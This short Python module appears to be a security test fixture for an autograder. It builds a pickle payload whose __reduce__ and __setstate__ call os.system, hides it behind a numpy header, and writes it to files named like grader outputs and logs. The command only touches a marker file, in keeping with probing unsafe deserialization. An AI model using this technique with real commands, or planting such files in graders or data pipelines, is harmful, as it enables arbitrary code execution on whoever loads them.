"""Bytes, files and objects that run a program when they are unpickled, unmarshalled or loaded by numpy or pandas."""

GOAL = "machine"
TECHNIQUE = "payloads"
CELLS = [
    """
import io, marshal, os, pickle
import numpy as np, pandas as pd
class Bomb:
    def __reduce__(self): return os.system, ('touch @FOLDER@/pickled',)
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    def __setstate__(self, state): os.system('touch @FOLDER@/pickled')
data = pickle.dumps(Bomb())
out = io.BytesIO()
np.save(out, np.array([1, None], dtype=object), allow_pickle=True)
npy = out.getvalue()[:128] + data
for name in ('results.pkl', 'answer.npy', 'table.pkl', 'table.arrow', '.OTTER_LOG', 'x.marshal'):
    open(name, 'wb').write(npy if name.endswith('npy') else data)
def square(x): return data
def double(table): return pd.Series([Bomb()], dtype=object)
def descend(*args): return [Bomb(), marshal.dumps(compile('1', 'x', 'eval')), npy]
""",
]
